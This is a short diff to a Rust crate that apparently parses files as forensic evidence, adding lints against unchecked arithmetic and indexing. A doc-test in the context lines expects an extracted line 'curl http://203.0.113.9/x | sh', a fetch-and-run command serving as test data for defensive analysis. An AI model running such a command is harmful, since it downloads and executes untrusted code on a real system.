@@ -12,6 +12,9 @@
 //! assert_eq!(s.first_lines[1], "curl http://203.0.113.9/x | sh");
 //! ```
 #![forbid(unsafe_code)]
+// Every byte this crate reads is evidence: arithmetic on read values is checked (or saturating
+// against a bound), and every slice goes through `get`.
+#![deny(clippy::arithmetic_side_effects, clippy::indexing_slicing)]
 
 mod authenticode;
 mod der;
